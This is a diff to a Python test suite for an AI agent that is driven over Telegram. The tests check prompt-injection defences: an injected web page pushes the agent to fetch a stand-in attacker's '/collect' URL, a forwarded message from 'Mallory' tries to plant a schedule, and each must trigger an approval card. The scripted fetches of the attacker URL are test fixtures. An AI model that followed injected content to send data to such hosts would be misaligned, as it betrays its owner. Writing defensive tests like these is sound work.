@@ -112,7 +112,7 @@ def tool_use(name: str, args: dict[str, Any], use_id: str) -> list[dict[str, Any
     return [{"type": "tool_use", "id": use_id, "name": name, "input": args}]
 
 
-def test_an_injected_page_cannot_make_a_silent_fetch_to_a_new_host(stack: Stack) -> None:
+def test_an_injected_page_cannot_make_a_silent_fetch_of_a_shown_or_new_url(stack: Stack) -> None:
     more = stack.site.url("/more")
     stack.site.page("/more", "<p>More of the article.</p>")
     article = stack.site.page(
@@ -124,24 +124,34 @@ def test_an_injected_page_cannot_make_a_silent_fetch_to_a_new_host(stack: Stack)
     stack.script(
         "injection-test",
         tool_use("fetch_url", {"url": article}, "toolu_inj1"),
-        tool_use("fetch_url", {"url": more}, "toolu_inj2"),  # shown by the page: no question
+        tool_use("fetch_url", {"url": more}, "toolu_inj2"),  # shown by the page: asks too
         tool_use("fetch_url", {"url": leak}, "toolu_inj3"),
         f"Summary done; the page wanted {stack.evil.url('/collect')}.",
     )
+    before = len(stack.sent(OWNER))
     stack.tg.add_message(OWNER, OWNER, f"injection-test: summarise {article}")
-    card = stack.tg.wait_until(
-        lambda: next((m for m in stack.sent(OWNER) if m["reply_markup"]), None), 60, "a card"
-    )
+
+    def card_after(n: int) -> dict[str, Any]:
+        return stack.tg.wait_until(
+            lambda: next((m for m in stack.sent(OWNER)[n:] if m["reply_markup"]), None),
+            60,
+            "a card",
+        )
+
+    card = card_after(before)
     text = card["plain_text"]
-    assert "Approval needed" in text and "fetch_url" in text
-    assert (
-        f"Why: this turn read outside content (fetch_url ({article}), fetch_url ({more}))" in text
-    )
-    assert "appeared neither in your own words nor in results already shown" in text
-    assert stack.site.requests.count("/more") == 1  # the URL the page showed ran unasked
-    assert stack.evil.requests == []  # and the new host was not fetched silently
-    button = card["reply_markup"]["inline_keyboard"][0][1]["callback_data"]  # Deny
-    stack.tg.add_callback_query(OWNER, OWNER, card["message_id"], button)
+    assert "Approval needed" in text and "fetch_url" in text and more in text
+    assert f"Why: this turn read outside content (fetch_url ({article}))" in text
+    assert "URL you did not write yourself" in text
+    assert stack.site.requests.count("/article") == 1  # the user's own URL ran unasked
+    assert "/more" not in stack.site.requests  # a URL the page showed earns nothing
+    deny = card["reply_markup"]["inline_keyboard"][0][1]["callback_data"]
+    stack.tg.add_callback_query(OWNER, OWNER, card["message_id"], deny)
+    second = card_after(stack.sent(OWNER).index(card) + 1)
+    assert leak in second["plain_text"] or "collect" in second["plain_text"]
+    assert stack.evil.requests == []  # the new host was not fetched silently
+    deny = second["reply_markup"]["inline_keyboard"][0][1]["callback_data"]
+    stack.tg.add_callback_query(OWNER, OWNER, second["message_id"], deny)
     answer = stack.tg.wait_until(
         lambda: next((m for m in stack.sent(OWNER) if "Summary done" in m["plain_text"]), None),
         60,
@@ -419,8 +429,7 @@ def test_forwarded_text_is_someone_elses_and_cannot_plant_a_task_unasked(stack: 
     )
     assert not any(m["reply_markup"] for m in stack.sent(OTHER))
     assert (
-        "Why: this turn read outside content (a forwarded message (Mallory))"
-        in (card["plain_text"])
+        "Why: this turn read outside content (a forwarded message (Mallory)" in (card["plain_text"])
     )
     assert "schedule can send data out or leave instructions behind" in card["plain_text"]
     assert stack.daemon.query("SELECT COUNT(*) FROM schedules")[0][0] == 0
